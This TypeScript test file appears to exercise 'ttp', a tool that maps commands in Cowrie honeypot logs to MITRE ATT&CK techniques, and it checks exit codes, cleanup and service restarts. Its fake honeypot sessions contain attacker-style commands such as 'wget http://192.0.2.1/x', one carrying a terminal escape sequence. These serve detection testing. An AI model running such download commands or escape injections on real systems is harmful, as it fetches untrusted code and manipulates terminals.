// SPDX-License-Identifier: AGPL-3.0-or-later
import { once } from 'node:events';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { aCowrieSession, aFolder, cleanUp, type Process, referenceRules, survivors, Ttp, ttp, until } from './ttp';

const FOUND_IN_COMMANDS = { T1003: 1, T1016: 3, T1033: 7, T1046: 4, T1049: 1, T1053: 2, T1059: 10, T1070: 4, T1082: 14, T1083: 6, T1098: 1, T1105: 15, T1136: 1, T1505: 1, T1548: 4, T1595: 4 };

/** What the reference's rules say of the sample log: of its commands, its logins and its sessions. */
const SAMPLE_RESULT = {
  sessions: 46,
  commands: 165,
  tags: 89,
  techniques: {
    ...FOUND_IN_COMMANDS,
    T1110: 7,
    T1552: 3,
    T1611: 1,
  },
  published: 25,
  duration_ms: expect.any(Number),
};

/** A temporary folder of the run's own: other tests use the system's at the same time. */
const ownTemporary = () => {
  const folder = aFolder({});
  return { env: { TMPDIR: folder }, left: () => readdirSync(folder) };
};

afterAll(cleanUp);

describe('ttp up --once', () => {
  it('tags the sample log, prints one JSON document and leaves nothing behind', async () => {
    const temporary = ownTemporary();
    const run = new Ttp(['up', '--demo', '--once', '--json', '--rules', referenceRules()], { env: temporary.env });
    await run.says(/(tagging)/);
    const running = run.descendants();
    const { code, stdout, stderr } = await run.ended;
    expect(stdout).toMatch(/^\{.*\}\n$/);
    expect(JSON.parse(stdout)).toEqual(SAMPLE_RESULT);
    expect(stderr).toMatch(/^starting .*\nimporting .*cowrie-sample\.json\ntagging\nreading the result\ndraining\n$/);
    expect(code).toBe(0);
    expect(running.length).toBeGreaterThanOrEqual(5);
    expect(await survivors(running)).toEqual([]);
    expect(temporary.left()).toEqual([]);
  });

  it('takes the log that is named, relative to the caller, and shows hostile text harmless', async () => {
    const folder = aFolder({ 'cowrie.json': aCowrieSession('5e55', ['wget http://192.0.2.1/x \u001b[2J', 'true']) });
    const { code, stdout } = await ttp(['up', '--demo', '--cowrie', 'cowrie.json', '--once'], { env: { INIT_CWD: folder } });
    expect(stdout).toMatch(/^192\.0\.2\.7\n/);
    expect(stdout).toMatch(/T1105 +Ingress Tool Transfer .* wget http:\/\/192\.0\.2\.1\/x \\u\{1b\}\[2J\n/);
    expect(stdout).toMatch(/\n1 sessions, 2 commands: \d+ tags of \d+ techniques, \d announcements, in \d+\.\d s\n$/);
    expect(stdout).not.toContain('\u001b');
    expect(code).toBe(0);
  });

  it('leaves with 3 and the reason when the rules cannot be read', async () => {
    const { code, stdout, stderr } = await ttp(['up', '--demo', '--once', '--json', '--rules', '/nonexistent']);
    expect({ code, stdout }).toEqual({ code: 3, stdout: '' });
    expect(stderr).toMatch(/ttp: \S+ ended with exit code 3 while starting\n[^]*\/nonexistent/);
    expect(stderr).not.toMatch(/^\s+at /m);
  });

  it('leaves with 1, the address and the option when a port is taken', async () => {
    const taken = createServer().listen(0, '127.0.0.1');
    await once(taken, 'listening');
    const { port } = taken.address() as AddressInfo;
    const data = join(aFolder(), 'data');
    const { code, stderr } = await ttp(['up', '--demo', '--once', '--data', data, '--port', String(port)]);
    taken.close();
    expect(code).toBe(1);
    const reason = `\nexport-api: port ${port} on 127.0.0.1 is in use; choose another with --port or DECNET_API_PORT\n`;
    expect(stderr).toMatch(/\nttp: export-api ended with exit code 1 while starting\n/);
    expect(stderr.endsWith(reason)).toBe(true);
    const log = readFileSync(join(data, 'logs/export-api.log'), 'utf8');
    expect(log.endsWith(reason)).toBe(true);
    expect(log).not.toMatch(/^\s+at /m);
  });

  it('leaves with 2 for a log that is not there, before anything is started', async () => {
    const { code, stdout, stderr } = await ttp(['up', '--cowrie', '/nonexistent/cowrie.json', '--once']);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toMatch(/^ttp: no such log file: \/nonexistent\/cowrie\.json/);
  });

  it('interrupted while it starts, and again, stops all that had started, and says by 1 that there is no result', async () => {
    const temporary = ownTemporary();
    const run = new Ttp(['up', '--demo', '--once', '--json'], { env: temporary.env });
    const running = await starting(run);
    // Supervisors repeat a SIGTERM: it stays one.
    for (let times = 0; times < 3; times++) run.child.kill('SIGTERM');
    expect(await run.ended).toMatchObject({ code: 1, signal: null, stdout: '' });
    expect(await survivors(running)).toEqual([]);
    expect(temporary.left()).toEqual([]);
  });

  it('leaves with 1 and the name of the broker when that is lost before the services are ready', async () => {
    const run = new Ttp(['up', '--demo', '--once']);
    const running = await starting(run);
    kill(run, 'nats-server', running);
    const stderr = expect.stringMatching(/^starting .*\nttp: nats-server ended with SIGKILL\n$/);
    expect(await run.ended).toMatchObject({ code: 1, stdout: '', stderr });
    expect(await survivors(running)).toEqual([]);
  });

  it('leaves with 1 and the name of a service that is lost', async () => {
    // Long enough to be under way when the worker goes.
    const sessions = Array.from({ length: 500 }, (_, i) => aCowrieSession(`5e55${i}`, ['uname -a', 'wget http://192.0.2.1/x']));
    const run = new Ttp(['up', '--cowrie', join(aFolder({ 'cowrie.json': sessions.join('') }), 'cowrie.json'), '--once']);
    await run.says(/(importing)/);
    kill(run, 'ttp-worker');
    const stderr = expect.stringMatching(/\nttp-worker ended with SIGKILL; draining\n[^]*ttp: ttp-worker ended with SIGKILL\n$/);
    expect(await run.ended).toMatchObject({ code: 1, stdout: '', stderr });
  });
});

/** But for those that the host and its version of nats-server decide. */
const ALL_CHECKS =
  'node nats-server token ports broker streams worker dlq database database-clock outbox catalogue rules rule-sync rule-digests'.split(' ');

describe('ttp up', () => {
  it('stays up with answering URLs, starts a lost service or broker again under its URL, satisfies the doctor, and drains on Ctrl-C', async () => {
    const data = join(aFolder(), 'data');
    const run = new Ttp(['up', '--data', data]);
    await run.says(/(Ctrl-C drains and stops)/);
    const url = { techniques: await run.says(/techniques +(\S+)/), rules: await run.says(/rules +(http\S+)/), metrics: await run.says(/metrics +(\S+)/) };
    const answers = await Promise.all(Object.values(url).map(async (one) => (await fetch(one)).status));
    expect(answers).toEqual([200, 200, 200]);

    kill(run, 'ttp-worker');
    await run.says(/(ttp-worker ended with SIGKILL; starting it again)/);
    await until(() => isUp(url.metrics));
    expect((await fetch(url.metrics)).status).toBe(200);

    const broker = await run.says(/broker +(nats\S+)/);
    kill(run, 'nats-server');
    await run.says(/(nats-server ended with SIGKILL; starting it again)/);
    const log = aFolder({ 'cowrie.json': aCowrieSession('5e55', ['wget http://192.0.2.1/x']) });
    expect(await ttp(['ingest', 'cowrie', join(log, 'cowrie.json'), '--nats', broker])).toMatchObject({ code: 0 });
    await until(async () => (await textOf(url.techniques)) !== '[]');
    expect(await textOf(url.techniques)).toContain('"T1105"');

    const freePorts = ['--port', '--worker-port', '--rule-store-port', '--rule-sync-port'].flatMap((flag) => [flag, '0']);
    const doctor = await ttp(['doctor', '--nats', broker, '--db-path', join(data, 'ttp.sqlite'), ...freePorts]);
    const findings = [...doctor.stdout.matchAll(/^(\S+) +(\S+)/gm)].map(([, verdict, check]) => `${verdict} ${check}`);
    const sure = findings.filter((finding) => !/^(ok|WARN|skipped) (power-loss|broker-clock|disk|keys)$/.test(finding));
    expect(sure).toEqual(ALL_CHECKS.map((check) => `ok ${check}`));
    expect(doctor.code).toBe(0);

    const running = run.descendants();
    expect(running.filter(({ args }) => args.includes('dist/apps/'))).toHaveLength(4);
    const { code, stdout } = await run.interrupt();
    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
    expect(await survivors(running)).toEqual([]);
    expect(existsSync(join(data, 'ttp.sqlite'))).toBe(true);
  });

  it('refuses a second one on the same data with 3 and who has it, also when both start at once', async () => {
    const data = join(aFolder(), 'data');
    const runs = [new Ttp(['up', '--data', data]), new Ttp(['up', '--data', data])];
    const [loser, refused] = await Promise.race(runs.map(async (run, i) => [i, await run.ended] as const));
    const has = runs[1 - loser]!;
    const message = `ttp: ${data} is in use by another ttp up (pid ${has.child.pid}): stop it, or give --data another folder\n`;
    expect(refused).toMatchObject({ code: 3, stdout: '', stderr: expect.stringMatching(/^starting .*\n/) });
    expect(refused.stderr.endsWith(`\n${message}`)).toBe(true);
    await has.says(/(Ctrl-C drains and stops)/);
    expect((await has.interrupt()).code).toBe(0);
    expect(readdirSync(data).filter((name) => name.endsWith('.lock'))).toEqual([]);
  });

  it('takes its services with it when it is killed outright', async () => {
    const run = new Ttp(['up', '--data', join(aFolder(), 'data')]);
    await run.says(/(Ctrl-C drains and stops)/);
    const running = run.descendants();
    run.child.kill('SIGKILL');
    await run.ended;
    for (let tries = 0; tries < 5 && (await survivors(running)).length > 0; tries++) await delay(500);
    expect(await survivors(running)).toEqual([]);
  });
});

const textOf = async (url: string) => (await fetch(url)).text();

const isUp = (url: string) => fetch(url).then(({ ok }) => ok, () => false);

/** All that runs, as soon as the worker does: it is not ready yet. */
async function starting(run: Ttp): Promise<readonly Process[]> {
  let running: readonly Process[] = [];
  await until(() => (running = run.descendants()).some(({ args }) => args.includes('ttp-worker')));
  return running;
}

function kill(run: Ttp, service: string, running = run.descendants()): void {
  for (const { pid, args } of running) if (args.includes(service)) process.kill(pid, 'SIGKILL');
}
